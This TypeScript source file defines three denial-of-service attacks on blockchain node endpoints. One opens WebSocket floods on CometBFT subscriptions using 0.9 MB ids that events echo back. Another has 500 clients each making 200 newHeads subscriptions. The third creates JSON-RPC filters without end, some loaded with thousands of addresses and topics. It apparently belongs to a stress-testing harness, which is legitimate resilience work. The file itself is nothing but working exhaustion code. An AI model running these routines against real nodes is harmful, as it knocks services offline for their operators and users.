/** Attacks by subscriptions and filters. */
import { type Attack, call, callAt, cometSocketUrl, holdOpen, openWebSocket, repeat } from './target.ts'

/** 60 clients of the CometBFT WebSocket subscribe with an id of 0.9 MB, which each event would repeat. */
export const longIds: Attack = async (target) => {
  const id = 'i'.repeat(900_000)
  return (stop, count) =>
    holdOpen(60, stop, count, async () => {
      const socket = await openWebSocket(target, cometSocketUrl(target))
      socket.on('message', (data: Buffer) => count(data.length > 100_000 ? 'echoed' : 'short'))
      for (const event of ['NewBlock', 'NewBlockHeader', 'NewBlockEvents', 'Tx']) {
        socket.send(JSON.stringify(call('subscribe', { query: `tm.event='${event}'` }, id)))
      }
      return socket
    })
}

/** 500 WebSocket clients subscribe to new heads 200 times each. */
export const manyHeads: Attack = async (target) => {
  return (stop, count) =>
    holdOpen(500, stop, count, async () => {
      const socket = await openWebSocket(target, target.config.urls.ws)
      const batch = Array.from({ length: 200 }, (_, id) => call('eth_subscribe', ['newHeads'], id))
      socket.on('message', (data: Buffer) => {
        const text = data.toString('utf8')
        if (!text.startsWith('[')) return
        for (const { error } of JSON.parse(text) as { error?: object }[])
          count(error ? 'refusedSubscriptions' : 'subscriptions')
      })
      socket.send(JSON.stringify(batch))
      return socket
    })
}

const FILTERS = ['eth_newFilter', 'eth_newBlockFilter', 'eth_newPendingTransactionFilter']

/** A filter of as many addresses and topics as a request can have. */
const heavyFilter = (): object => {
  const list = (digits: number, first = 0): string[] =>
    Array.from({ length: 1000 }, (_, i) => `0x${(first + i).toString(16).padStart(digits, '0')}`)
  return { address: list(40), topics: [0, 1, 2, 3].map((position) => list(64, position * 1000)) }
}

/** Creates filters without end, in batches; one of each batch has thousands of addresses and topics. */
export const manyFilters: Attack = async (target) => {
  const batch = Array.from({ length: 60 }, (_, id) => call(FILTERS[id % 3]!, id % 3 === 0 ? [{}] : [], id))
  const body = [...batch, call('eth_newFilter', [heavyFilter()])]
  return (stop, count) =>
    repeat(1, stop, count, async () => {
      const answers = await callAt<{ error?: object }[]>(target, target.config.urls.jsonrpc, body)
      return answers.some(({ error }) => error) ? 'refused' : 'created'
    })
}
